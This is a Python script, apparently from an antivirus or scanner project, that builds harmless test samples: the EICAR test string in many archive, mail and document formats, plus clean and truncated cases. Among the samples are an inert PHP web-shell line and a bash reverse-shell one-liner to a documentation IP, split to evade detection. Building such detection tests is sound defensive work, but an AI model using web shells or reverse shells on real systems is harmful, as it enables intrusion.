#!/usr/bin/env python3
"""Makes harmless samples for `make run`:  samples/make_samples.py FOLDER

All of them hold EICAR's test file, whose 68 bytes every antivirus agrees to report, an inert line that a built-in rule
finds, or something like it that must not be reported. It is put together here from pieces, so that no file of this repository is itself detected. Alone, this
needs Python only; with bsdtar (libarchive-tools) it makes a few more archives.
"""
import base64
import bz2
import gzip
import io
import lzma
import os
import shutil
import struct
import subprocess
import sys
import tarfile
import zipfile
import zlib

import documents

EICAR = ("X5O!P%@AP[4" + "\\PZX54(P^)7CC)7}$" + "EICAR-STANDARD-" + "ANTIVIRUS-TEST-FILE" + "!$H+H*").encode()
WHEN = (2026, 1, 1, 0, 0, 0)  # in every archive, so that samples are the same each time


def zip_of(*members, method=zipfile.ZIP_DEFLATED):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as z:
        for name, data in members:
            z.writestr(zipfile.ZipInfo(name, WHEN), data, method)
    return out.getvalue()


def mail_of(kind):
    """A mail with the file attached in base64; a kind whose boundary is another one is what attackers send."""
    return (b"From: a@example.com\nTo: b@example.com\nSubject: test\nDate: Thu, 1 Jan 2026 00:00:00 +0000\nMIME-Version: 1.0\n"
            b"Content-Type: " + kind + b"\n\n--cut here\nContent-Type: text/plain\n\nSee the file.\n--cut here\n"
            b'Content-Type: application/octet-stream; name="eicar.com"\nContent-Transfer-Encoding: base64\n\n'
            + base64.encodebytes(EICAR) + b"--cut here--\n")


def tar_of(*members):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as t:
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            t.addfile(info, io.BytesIO(data))
    return out.getvalue()


def crc32_step(crc, byte):
    """One byte of CRC-32, as PKWARE's cipher uses it: without the inversions around it."""
    return zlib.crc32(bytes([byte]), crc ^ 0xFFFFFFFF) ^ 0xFFFFFFFF


def pkware_encrypt(data, password):
    """The traditional cipher of APPNOTE 6.1. It is weak, but everyone's zip can read it."""
    keys = [0x12345678, 0x23456789, 0x34567890]

    def update(byte):
        keys[0] = crc32_step(keys[0], byte)
        keys[1] = ((keys[1] + (keys[0] & 0xFF)) * 134775813 + 1) & 0xFFFFFFFF
        keys[2] = crc32_step(keys[2], keys[1] >> 24)

    for byte in password:
        update(byte)
    out = bytearray()
    for byte in data:
        t = (keys[2] | 2) & 0xFFFF
        out.append(byte ^ (t * (t ^ 1) >> 8 & 0xFF))
        update(byte)
    return bytes(out)


def encrypted_zip(name, data, password):
    """A stored and encrypted member; zipfile can only read such."""
    crc = zlib.crc32(data)
    body = pkware_encrypt(b"overt-sampl" + bytes([crc >> 24]) + data, password)
    common = struct.pack("<HHHHIIIHH", 1, 0, 0, 0x5C21, crc, len(body), len(data), len(name), 0)
    local = b"PK\3\4" + struct.pack("<H", 20) + common + name + body
    central = (b"PK\1\2" + struct.pack("<HH", 20, 20) + common + struct.pack("<HHHII", 0, 0, 0, 0, 0) + name)
    end = b"PK\5\6" + struct.pack("<HHHHIIH", 0, 0, 1, 1, len(central), len(local), 0)
    return local + central + end


def deep_zip(depth):
    data = EICAR
    for level in range(depth):
        data = zip_of((f"level-{level}.zip" if level else "eicar.com", data))
    return data


def samples():
    """File name -> bytes. A name tells what overt should say: found-, clean-, or incomplete-."""
    half = zip_of(("note.txt", b"harmless\n" * 9), ("eicar.com", EICAR), ("big.bin", bytes(9000)))
    altered = EICAR.replace(b"STANDARD", b"STANDARt")
    mail_part = b"nothing to see here\n" * 40
    return {
        "found-eicar.com": EICAR,
        "found-eicar-white-space.com": EICAR + b" \t\r\n" * 10,
        "found-eicar.zip": zip_of(("eicar.com", EICAR)),
        "found-eicar-stored.zip": zip_of(("folder/eicar.com", EICAR), method=zipfile.ZIP_STORED),
        "found-eicar-bzip2.zip": zip_of(("eicar.com", EICAR), method=zipfile.ZIP_BZIP2),
        "found-eicar-lzma.zip": zip_of(("eicar.com", EICAR), method=zipfile.ZIP_LZMA),
        "found-eicar.tar": tar_of(("a.txt", b"a"), ("eicar.com", EICAR)),
        "found-eicar.tar.gz": gzip.compress(tar_of(("a.txt", b"a"), ("eicar.com", EICAR)), mtime=0),
        "found-eicar.tar.bz2": bz2.compress(tar_of(("eicar.com", EICAR))),
        "found-eicar.tar.xz": lzma.compress(tar_of(("eicar.com", EICAR))),
        "found-web-shell.php": ("<?php @ev" + "al($_PO" + "ST['inert']); // cut\n").encode(),
        "found-reverse-shell.zip": zip_of(("run.sh", ("bash -i >& /de" + "v/tcp/192.0.2.1/0 0>&1 # cut\n").encode())),
        "found-seven-deep.zip": deep_zip(7),
        "found-before-the-cut.zip": half[:-120],
        "found-zip-behind-picture.gif": b"GIF89a" + bytes(7) + b"\x3b" + zip_of(("eicar.com", EICAR)),
        "found-eicar-attached.eml": mail_of(b'multipart/mixed; boundary="cut here"'),
        "found-eicar-other-boundary.eml": mail_of(b"multipart/mixed; boundary=elsewhere"),
        "found-eicar.mbox": b"From a@example.com Thu Jan  1 00:00:00 2026\n" + mail_of(b'multipart/mixed; boundary="cut here"'),
        "clean-altered-eicar.com": altered,
        "clean-eicar-in-the-middle.txt": b"As everyone knows: " + EICAR,
        "clean-eicar-129-bytes.com": EICAR + b" " * 61,
        "clean-empty": b"",
        "clean-text.txt": mail_part,
        "clean.tar.gz": gzip.compress(tar_of(("a.txt", mail_part)), mtime=0),
        "incomplete-encrypted.zip": encrypted_zip(b"secret.com", EICAR, b"infected"),
        "incomplete-cut.gz": gzip.compress(bytes(range(256)) * 400, mtime=0)[:-40],
        "incomplete-cut.zip": zip_of(("a.bin", bytes(range(256)) * 40), ("b.txt", b"b"))[:100],
    }


def document_samples():
    """One of each kind of document, with EICAR's file inside."""
    catalog = b"<< /Type /Catalog >>"
    package = documents.ole2({"WordDocument": documents.word_fib(), "ObjectPool": {"_1": {
        "\x01Ole10Native": documents.ole10native("eicar.com", EICAR)}}})
    packed = documents.pdf_stream(zlib.compress(EICAR), b"/Type /EmbeddedFile /Filter /FlateDecode")
    pdf = documents.pdf({1: catalog, 2: packed, 3: b"<< /Type /Filespec /F (eicar.com) /EF << /F 2 0 R >> >>"})
    rtf = b"{\\rtf1{\\object\\objemb{\\*\\objdata " + documents.ole1_package("eicar.com", EICAR).hex().encode() + b"}}}"
    return {
        "found-eicar.doc": package,
        "found-eicar.docx": zip_of(("[Content_Types].xml", b"<Types/>"), ("word/document.xml", b"<w/>"), ("word/embeddings/oleObject1.bin", package)),
        "found-eicar.pdf": pdf,
        "found-eicar.rtf": rtf,
        "found-eicar.one": documents.onenote(EICAR),
        "found-eicar.swf": documents.swf(b"CWS", (87, bytes(6) + EICAR)),
        "found-eicar-2003.xml": documents.word_xml(EICAR, "eicar.com"),
        "clean-macro.doc": documents.ole2(documents.vba_project([("Module1", b"Sub Hello()\r\n  MsgBox \"Hello\"\r\nEnd Sub\r\n")])),
        "clean.pdf": documents.pdf({1: catalog, 2: documents.pdf_stream(zlib.compress(b"BT (Hello) Tj ET"), b"/Filter /FlateDecode")}),
        "incomplete-encrypted.doc": documents.ole2({"WordDocument": documents.word_fib(0x0100)}),
        "incomplete-encrypted.pdf": documents.pdf({1: catalog, 2: b"<< /Filter /Standard /V 1 >>"}, trailer=b"/Root 1 0 R /Encrypt 2 0 R"),
        "incomplete-cut.doc": package[:2000],
    }


def with_bsdtar(folder):
    """Archives that Python can't write."""
    if shutil.which("bsdtar") is None:
        return 0
    inner = os.path.join(folder, "eicar.com")
    with open(inner, "wb") as f:
        f.write(EICAR)
    made = 0
    for name, options in (("found-eicar.7z", ["--format", "7zip"]), ("found-eicar.iso", ["--format", "iso9660"]),
                          ("found-eicar.cpio", ["--format", "newc"]), ("found-eicar.xar", ["--format", "xar"]),
                          ("found-eicar.a", ["--format", "ar"]), ("found-eicar.tar.zst", ["--zstd"]),
                          ("found-eicar.tar.lz4", ["--lz4"]), ("found-eicar.tar.Z", ["--compress"])):
        done = subprocess.run(["bsdtar", "-cf", os.path.join(folder, name), *options, "-C", folder, "eicar.com"],
                              stdin=subprocess.DEVNULL, capture_output=True, check=False)
        made += done.returncode == 0
    os.unlink(inner)
    return made


def main():
    if len(sys.argv) != 2:
        sys.exit(__doc__)
    folder = sys.argv[1]
    os.makedirs(folder, exist_ok=True)
    made = {**samples(), **document_samples()}
    for name, data in made.items():
        with open(os.path.join(folder, name), "wb") as f:
            f.write(data)
    total = len(made) + with_bsdtar(folder)
    print(f"made {total} harmless samples in {folder}")


if __name__ == "__main__":
    main()
